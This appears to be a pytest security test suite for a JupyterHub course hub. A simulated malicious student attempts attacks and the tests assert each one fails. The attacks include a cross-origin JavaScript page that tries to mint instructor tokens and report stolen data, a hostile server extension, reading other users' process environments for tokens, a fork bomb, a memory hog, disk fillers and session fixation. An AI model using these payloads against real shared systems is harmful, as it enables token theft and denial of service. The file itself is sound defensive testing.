"""A class of determined students against the course's hub (`make hub`): every attack of issue 38, driven as a
student would drive it (her lab's terminal, the hub's API, Chromium), each failing.

One hub for the module: an instructor (prof), a student who attacks (mal) and one who does not (ben), on a course
owned by an ordinary account, each student bounded (StudentLimits, small for the test). Runs as root (the hub makes
the students' Unix users and file systems); markers slow and browser; skipped where the hub cannot run, unless
LECTURE2_BROWSER_REQUIRED is set (CI).
"""
from __future__ import annotations

import datetime as dt
import http.server
import json
import os
import pwd
import re
import secrets
import shlex
import sqlite3
import stat
import threading
import time
from pathlib import Path

import pytest

from hubs import NAME, Terminal, owner_env, request, run_as, start_hub, stop_hub, unavailable_reason
from conftest import ASSIGNMENT, BIN

pytestmark = [pytest.mark.browser, pytest.mark.slow]
TAG = secrets.token_hex(2)
PROF, MAL, BEN = f"prof-{TAG}", f"mal-{TAG}", f"ben-{TAG}"
NBGRADER = BIN / "nbgrader"  # a lab's terminal is a login shell: /etc/profile sets its PATH anew
LIMITS = "memory=1GiB,processes=96,disk=64MiB,tmp=32MiB,exchange=64MiB,kernels=2,idle=0"


@pytest.fixture(scope="module")
def hub():
    why = unavailable_reason()
    if why:
        from test_browser import _unavailable

        _unavailable(why)
    hub = start_hub({PROF: "instructor", MAL: "student", BEN: "student"}, limits=LIMITS,
                    extra={"login": {"lockout": 2.0}})
    try:
        yield hub
    finally:
        stopped = stop_hub(hub)
        assert stopped.returncode == 0, stopped.stdout + stopped.stderr


@pytest.fixture(scope="module")
def tokens(hub):
    found = {name: hub.token(name) for name in (PROF, MAL, BEN)}
    for name in (MAL, BEN):
        hub.start_server(name, found[name])
    return found


@pytest.fixture(scope="module")
def mal_terminal(hub, tokens):
    return Terminal(hub, MAL, tokens[MAL])


def _entry(name: str) -> pwd.struct_passwd:
    return pwd.getpwnam(name)


# ---- 1. one origin per person: a page a student serves reaches neither the hub nor anyone's server

ATTACK_PAGE = """<!doctype html><title>homework help</title><script>
const hub = "HUB", prof = "PROF_SERVER", out = {};
async function probe(name, url, options) {
  try { const r = await fetch(url, Object.assign({credentials: "include"}, options || {}));
        out[name] = "read " + r.status + " " + (await r.text()).slice(0, 200); }
  catch (e) { out[name] = "blocked: " + e; }
}
(async () => {
  await probe("hub token page", hub + "/hub/token");
  await probe("hub api", hub + "/hub/api/user");
  await probe("mint a token", hub + "/hub/api/users/PROF/tokens",
              {method: "POST", body: JSON.stringify({note: "stolen"}), headers: {"Content-Type": "application/json"}});
  await probe("no-cors mint", hub + "/hub/api/users/PROF/tokens",
              {method: "POST", mode: "no-cors", body: JSON.stringify({note: "stolen"})});
  await probe("prof's terminal", prof + "/api/terminals", {method: "POST"});
  out["cookies seen"] = document.cookie;
  await fetch("report", {method: "POST", body: JSON.stringify(out)});
})();
</script>"""


class _AttackServer(http.server.BaseHTTPRequestHandler):
    page = ""
    reports: list[dict] = []

    def do_GET(self):  # noqa: N802
        body = self.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):  # noqa: N802
        data = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.reports.append(json.loads(data or b"{}"))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


def _proxy_route(hub, routespec: str, target: str) -> None:
    """Add a route to the hub's proxy (as root: its auth token from the proxy's environment), as a student's server
    serving a page of hers would be reached: on her own name, under her own prefix."""
    settings = json.loads((hub.state / "settings.json").read_text())
    pid = int((hub.state / "proxy.pid").read_text().strip())
    environ = dict(kv.split(b"=", 1) for kv in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0") if b"=" in kv)
    token = environ[b"CONFIGPROXY_AUTH_TOKEN"].decode()
    import urllib.request

    req = urllib.request.Request(f"http://127.0.0.1:{settings['proxy_api_port']}/api/routes/{routespec}",
                                 method="POST", data=json.dumps({"target": target}).encode(),
                                 headers={"Authorization": f"token {token}"})
    with urllib.request.urlopen(req, timeout=10) as reply:
        assert reply.status == 201


def _stolen_tokens(hub, name: str) -> int:
    """Tokens of `name` that the page asked for (its note), read from the hub's own database (as root)."""
    with sqlite3.connect(hub.state / "jupyterhub.sqlite") as db:
        return db.execute("SELECT count(*) FROM api_tokens JOIN users ON users.id = api_tokens.user_id "
                          "WHERE users.name = ? AND api_tokens.note = 'stolen'", (name,)).fetchone()[0]


def test_her_own_server_extension_never_loads(hub, tokens):
    """Is a server extension a student enables in ~/.jupyter (or a config file in her home) left unloaded?"""
    mal = _entry(MAL)
    home = Path(mal.pw_dir)
    extension = (
        "import pathlib\n"
        "from jupyter_server.base.handlers import JupyterHandler\n"
        "pathlib.Path.home().joinpath('EXTENSION_LOADED').write_text('yes')\n"
        "class Open(JupyterHandler):\n"
        "    def get(self):\n"
        "        self.finish('<script>/* steal the visitor\\'s session */</script>')\n"
        "def _jupyter_server_extension_points():\n"
        "    return [{'module': 'evil'}]\n"
        "def _load_jupyter_server_extension(app):\n"
        "    app.web_app.add_handlers('.*$', [(app.base_url + 'open', Open)])\n")
    config = ("import sys; sys.path.insert(0, str(__import__('pathlib').Path.home()))\n"
              "c.ServerApp.jpserver_extensions = {'evil': True}\n")
    for folder in (home / ".jupyter", home):  # her own files, as she would write them
        assert run_as(mal, "mkdir", "-p", str(folder)).returncode == 0
        for name, text in (("evil.py", extension), ("jupyter_server_config.py", config)):
            (folder / name).write_text(text)
            os.chown(folder / name, mal.pw_uid, mal.pw_gid)
    hub.stop_server(MAL, tokens[MAL])
    hub.start_server(MAL, tokens[MAL])
    assert not (home / "EXTENSION_LOADED").exists(), "the student's own extension ran in her server"
    status, text = request(f"{hub.server(MAL)}/open")
    assert "steal" not in text and status != 200, (status, text[:300])


def test_a_page_on_a_students_name_cannot_reach_the_hub_or_the_instructor(hub, tokens):
    """With one origin per person, can a page served on a student's name (what a server extension of hers would
    serve, reached here through the proxy) read the hub's pages, mint a token for the instructor who opens it, or
    open a terminal in the instructor's server? (Issue 38, attack 1: on one origin it could, and the instructor's lab
    was root.)"""
    from playwright import sync_api

    from test_browser import CHROMIUM_ARGS, _chromium

    handler = type("Attack", (_AttackServer,), {"reports": []})
    handler.page = (ATTACK_PAGE.replace("HUB", hub.url).replace("PROF_SERVER", hub.server(PROF))
                    .replace("PROF", PROF))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        _proxy_route(hub, f"{MAL}.localhost/user/{MAL}/attack", f"http://127.0.0.1:{server.server_address[1]}")
        hub.start_server(PROF, tokens[PROF])
        with sync_api.sync_playwright() as p:
            browser = p.chromium.launch(executable_path=_chromium(), args=CHROMIUM_ARGS)
            try:
                page = browser.new_page()
                page.goto(f"{hub.url}/hub/login", timeout=60_000)
                page.fill("#username_input", PROF)
                page.fill("#password_input", hub.passwords[PROF])
                page.click("#login_submit")
                page.locator(".jp-LabShell, #jp-main-dock-panel").first.wait_for(timeout=120_000)
                assert page.url.startswith(f"http://{PROF}.localhost:{hub.port}/user/{PROF}/"), page.url
                page.goto(f"http://{MAL}.localhost:{hub.port}/user/{MAL}/attack/", timeout=60_000)
                deadline = time.monotonic() + 30
                while not handler.reports and time.monotonic() < deadline:
                    page.wait_for_timeout(200)
            finally:
                browser.close()
    finally:
        server.shutdown()
    assert handler.reports, "the page never reported"
    report = handler.reports[0]
    for probe in ("hub token page", "hub api", "mint a token", "prof's terminal"):
        assert report[probe].startswith("blocked"), (probe, report)
    assert "jupyterhub" not in report["cookies seen"] and "_xsrf" not in report["cookies seen"], report
    assert _stolen_tokens(hub, PROF) == 0, "a token was made for the instructor"
    status, text = request(f"{hub.server(PROF)}/api/terminals", token=tokens[PROF])
    assert status == 200 and json.loads(text) == [], text


def test_an_instructor_opens_no_students_server_and_runs_no_students_code(hub, tokens):
    """Is the instructor's lab an ordinary user's, without nbgrader's Validate (which would run a student's notebook
    outside the sandbox), and can an instructor neither open a student's server nor mint a token for her?"""
    hub.start_server(PROF, tokens[PROF])
    status, text = request(f"{hub.server(PROF)}/assignments/validate", "POST", token=tokens[PROF],
                           body={"path": "x.ipynb"})
    assert status == 404, (status, text[:200])
    page_config = json.loads((hub.state / "config" / "instructor" / "labconfig" / "page_config.json").read_text())
    assert page_config["disabledExtensions"].get("@jupyter/nbgrader:validate-assignment") is True
    servers = [p for p in Path("/proc").iterdir() if p.name.isdigit() and _env(p).get("JUPYTERHUB_USER") == PROF
               and "jupyterhub-singleuser" in _cmdline(p)]
    assert servers and all(p.stat().st_uid == hub.owner.pw_uid != 0 for p in servers), servers
    status, _ = request(f"{hub.server(MAL)}/api/contents", token=tokens[PROF])
    assert status == 403, status
    status, _ = request(f"{hub.url}/hub/api/users/{MAL}/tokens", "POST", token=tokens[PROF], body={"note": "x"})
    assert status == 403, status


def _env(proc: Path) -> dict[str, str]:
    try:
        raw = (proc / "environ").read_bytes()
    except OSError:
        return {}
    return dict(kv.decode(errors="replace").split("=", 1) for kv in raw.split(b"\0") if b"=" in kv)


def _cmdline(proc: Path) -> str:
    try:
        return (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


# ---- 2. the exchange: nothing in it a student can replace

def test_the_exchange_cannot_be_taken_over(hub, tokens, mal_terminal):
    """Can a student rename the course's folder in the exchange, add one beside it, or move another student's
    submission, from her lab or from any shell of hers? (Issue 38, attack 2.)"""
    ben = Terminal(hub, BEN, tokens[BEN])
    out = ben.run(f"{NBGRADER} fetch_assignment lec02 2>&1 | tail -2 && {NBGRADER} submit lec02 2>&1 | tail -2")
    assert "Submitted as" in out, out
    course = hub.exchange / "lecture2"
    inbound = course / "inbound"
    bens = [e for e in os.scandir(inbound) if e.name.startswith(f"{BEN}+")]
    assert len(bens) == 1 and bens[0].stat().st_uid == _entry(BEN).pw_uid
    assert stat.S_IMODE(bens[0].stat().st_mode) == 0o755, oct(bens[0].stat().st_mode)  # nbgrader leaves 0777
    listing = sorted(os.listdir(hub.exchange)), sorted(os.listdir(course))
    his = shlex.quote(bens[0].path)
    attempts = [f"mv {course} {hub.exchange}/taken", f"mkdir {hub.exchange}/lecture2-evil",
                f"ln -s /tmp {hub.exchange}/evil", f"mv {his} {inbound}/mine", f"rm -rf {his}",
                f"touch {course}/outbound/lec02/{NAME}", f"ls {inbound}"]
    in_lab = mal_terminal.run("; ".join(f"{a} 2>&1 | head -1" for a in attempts))
    for attempt in attempts:
        outside = run_as(_entry(MAL), "sh", "-c", attempt)  # a shell of hers outside her lab: Unix permissions alone
        assert outside.returncode != 0 and re.search(r"Permission denied|Operation not permitted", outside.stderr), \
            (attempt, outside.stdout, outside.stderr)
    assert (sorted(os.listdir(hub.exchange)), sorted(os.listdir(course))) == listing, in_lab
    assert Path(bens[0].path).is_dir() and not (inbound / "mine").exists()
    assert (course / "outbound" / ASSIGNMENT / NAME).stat().st_uid == hub.owner.pw_uid  # released as the owner
    assert stat.S_IMODE(hub.exchange.stat().st_mode) == 0o755 and stat.S_IMODE(inbound.stat().st_mode) == 0o1733


# ---- 3. collecting trusts no name, time or link a student wrote

def test_collecting_takes_a_submission_only_from_its_owner_at_the_systems_time(hub, tokens, mal_terminal):
    """Does `make collect` (and the formgrader's Collect button) refuse a submission mal made in ben's name, and date
    hers by the system's clock, not by the 2099 she wrote in its timestamp.txt? (Issue 38, attack 3.)"""
    out = mal_terminal.run(f"{NBGRADER} fetch_assignment lec02 2>&1 | tail -1; {NBGRADER} submit lec02 --student {BEN} "
                           f"2>&1 | tail -1; {NBGRADER} submit lec02 2>&1 | tail -1")
    assert out.count("Submitted as") == 2, out
    inbound = hub.exchange / "lecture2" / "inbound"
    hers = [e.path for e in os.scandir(inbound) if e.name.startswith(f"{MAL}+")]
    assert len(hers) == 1
    mal_terminal.run(f"echo '2099-01-01 00:00:00.000000 UTC' > {shlex.quote(hers[0])}/timestamp.txt")
    before = time.time()
    owner = hub.owner
    collected = run_as(owner, str(BIN / "python"), "-m", "lecture2_grader.collect", str(inbound), cwd=hub.course,
                       env=owner_env(owner))
    assert collected.returncode == 0, collected.stdout + collected.stderr
    lines = collected.stdout
    forged = [e.name for e in os.scandir(inbound) if e.name.startswith(f"{BEN}+") and e.stat().st_uid != _entry(BEN).pw_uid]
    assert len(forged) == 1
    assert re.search(rf"{re.escape(forged[0])}.*its folder belongs to {MAL}, not to {BEN}: not collected", lines), lines
    history = hub.course / "submitted" / BEN / "history" / ASSIGNMENT / "intake.json"
    if history.exists():  # ben's own submission (the exchange test's) is his; the forged one is not among his
        assert forged[0] not in history.read_text(), history.read_text()
    mine = next(ln for ln in lines.splitlines() if ln.startswith(f"{MAL}:"))
    assert "timestamp.txt says 2099-01-01" in mine and "(not used)" in mine, mine
    intake = json.loads((hub.course / "submitted" / MAL / "history" / ASSIGNMENT / "intake.json").read_text())
    record = next(r for r in intake["received"] if r["notebook"] == NAME)
    at = dt.datetime.fromisoformat(record["submitted_at"]).timestamp()
    assert at <= before + 1 and record["claimed_at"].startswith("2099") and "system" in record["time_source"], record
    status, text = request(f"{hub.server(PROF)}/formgrader/api/assignment/{ASSIGNMENT}/collect", "POST",
                           token=tokens[PROF])
    assert status == 200, (status, text[:500])
    reply = json.loads(text)
    assert reply["success"] and f"its folder belongs to {MAL}, not to {BEN}" in reply["log"], reply


# ---- 5. log-in

def test_log_in_is_throttled_and_starts_a_new_session(hub):
    """After five wrong passwords, is even the right one refused for a while (429), and does a log-in replace a
    session id someone placed in the browser beforehand? Are the hub's own files its owner's alone? (Attack 5.)"""
    from playwright import sync_api

    from test_browser import CHROMIUM_ARGS, _chromium

    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=_chromium(), args=CHROMIUM_ARGS)
        try:
            context = browser.new_context()
            context.add_cookies([{"name": "jupyterhub-session-id", "value": "chosen-by-someone-else",
                                  "domain": "localhost", "path": "/"}])
            page = context.new_page()

            def log_in(password: str) -> str:
                page.goto(f"{hub.url}/hub/login", timeout=60_000)
                page.fill("#username_input", BEN)
                page.fill("#password_input", password)
                page.click("#login_submit")
                page.wait_for_load_state()
                return page.inner_text("body")

            for _ in range(5):
                assert "Invalid username or password" in log_in("wrong")
            assert "Too many failed log-ins" in log_in(hub.passwords[BEN])
            time.sleep(2.2)  # the tests' lockout: 2 s
            log_in(hub.passwords[BEN])
            page.wait_for_url(re.compile(rf"http://{BEN}\.localhost:{hub.port}/user/{BEN}/.*"), timeout=120_000)
            sessions = [c["value"] for c in context.cookies() if c["name"] == "jupyterhub-session-id"]
            assert sessions and "chosen-by-someone-else" not in sessions, context.cookies()
        finally:
            browser.close()
    for folder, dirs, files in os.walk(hub.state):
        if Path(folder).relative_to(hub.state).parts[:1] == ("config",):
            continue
        for name in files:
            mode = stat.S_IMODE(os.lstat(os.path.join(folder, name)).st_mode)
            assert mode & 0o077 == 0, (os.path.join(folder, name), oct(mode))


# ---- 6. each student bounded by the machine

def test_a_student_sees_only_her_own_processes(hub, tokens, mal_terminal):
    """Does a student's lab show her no one else's processes (command lines with tokens, environments)?"""
    out = mal_terminal.run("echo USERS $(ps -eo user= | sort -u); echo PROCS $(ls /proc | grep -c '^[0-9]'); "
                           "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c JUPYTERHUB_USER=")
    users = re.search(r"USERS (.*)", out).group(1).split()
    assert users == [MAL], out
    assert int(re.search(r"PROCS (\d+)", out).group(1)) < 40, out  # her server, its kernels, this shell
    bens = [p for p in Path("/proc").iterdir() if p.name.isdigit() and _env(p).get("JUPYTERHUB_USER") == BEN]
    assert bens and not any(str(p.name) in out.split() for p in bens)


def test_a_fork_bomb_a_memory_hog_and_disk_fillers_end_at_their_bounds(hub, tokens, mal_terminal):
    """Do a fork bomb, a memory hog and disk fillers (home, /tmp, the exchange) end at the student's bounds, and
    does the other student's server answer all the while? (Attack 6.)"""
    fork_bomb = ("import os, time\nn = 0\nwhile True:\n    try:\n        pid = os.fork()\n    except OSError:\n"
                 "        print('FORKS', n, flush=True)\n        break\n    if pid == 0:\n        time.sleep(20)\n"
                 "        os._exit(0)\n    n += 1\n")
    script = Path(_entry(MAL).pw_dir) / "bomb.py"
    script.write_text(fork_bomb)
    os.chown(script, _entry(MAL).pw_uid, _entry(MAL).pw_gid)
    out = mal_terminal.run("python3 ~/bomb.py; pkill -f bomb.py; true", timeout=120)
    forks = int(re.search(r"FORKS (\d+)", out).group(1))
    assert 0 < forks < 96, out
    assert hub.answers(BEN, tokens[BEN]), "ben's server stopped answering during the fork bomb"

    out = mal_terminal.run("python3 -c 'x = bytearray(3 * 2**30); print(\"GOT\")'; echo EXIT $?", timeout=120)
    assert "GOT" not in out and re.search(r"EXIT (137|1)\b", out), out
    assert hub.answers(BEN, tokens[BEN])

    inbound = hub.exchange / "lecture2" / "inbound"
    for target, bound in (("~/fill", 64), ("/tmp/fill", 32), (f"{inbound}/fill-{MAL}", 64)):
        out = mal_terminal.run(f"dd if=/dev/zero of={target} bs=1M count=400 2>&1 | grep -o 'No space left on device'; "
                               f"du -m {target} | cut -f1; rm -f {target}", timeout=120)
        assert "No space left on device" in out, (target, out)
        assert int(out.strip().splitlines()[-1]) <= bound, (target, out)
        assert hub.answers(BEN, tokens[BEN])
    assert hub.answers(MAL, tokens[MAL])  # her own server too: each bound ended its process, not her lab


def test_kernels_and_cpu_are_bounded(hub, tokens):
    """At most `kernels` kernels at once (one more refused with what to do), and her CPU quota set."""
    started = []
    for _ in range(2):
        status, text = request(f"{hub.server(MAL)}/api/kernels", "POST", token=tokens[MAL], body={"name": "python3"})
        assert status == 201, (status, text)
        started.append(json.loads(text)["id"])
    status, text = request(f"{hub.server(MAL)}/api/kernels", "POST", token=tokens[MAL], body={"name": "python3"})
    assert status == 403 and "at most 2 kernels" in text, (status, text)
    for kernel in started:
        request(f"{hub.server(MAL)}/api/kernels/{kernel}", "DELETE", token=tokens[MAL])
    from lecture2_hub import limits

    mine = [p for p in limits.hub_cgroups(hub.state) if p.name == MAL]
    quota = [p for p in mine if (p / "cpu.cfs_quota_us").exists() or (p / "cpu.max").exists()]
    assert quota, mine
    text = ((quota[0] / "cpu.max").read_text() if (quota[0] / "cpu.max").exists()
            else (quota[0] / "cpu.cfs_quota_us").read_text())
    assert text.split()[0] == str(limits.CPU_PERIOD_US), text  # 1 CPU: a full period of each period
    procs = {int(x) for p in mine for x in (p / "cgroup.procs").read_text().split()}
    assert procs and all(_env(Path(f"/proc/{pid}")).get("JUPYTERHUB_USER") == MAL for pid in procs if Path(f"/proc/{pid}").exists())
